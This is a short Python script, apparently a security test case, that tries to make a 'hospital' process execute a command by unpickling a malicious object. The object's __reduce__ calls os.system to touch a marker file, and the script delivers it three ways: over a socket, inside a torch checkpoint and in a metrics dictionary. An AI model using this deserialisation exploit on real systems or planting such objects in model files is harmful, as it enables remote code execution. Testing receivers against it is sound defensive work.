# Tries to make the hospital's process unpickle an object that runs a command.
import os
import pickle
import struct

import torch
from knows import MARK
from lead import door, learn


class Evil:
    def __reduce__(self):
        return os.system, (f"touch {MARK}",)


def hand_over(model, metrics) -> None:
    door().pair.setblocking(True)
    for data in (pickle.dumps(Evil()), struct.pack(">I", len(pickle.dumps(Evil()))) + pickle.dumps(Evil())):
        door().pair.sendall(data)
    torch.save({"model": Evil()}, "/tmp/model.pt")
    metrics["accuracy"] = Evil()


learn(hand_over)
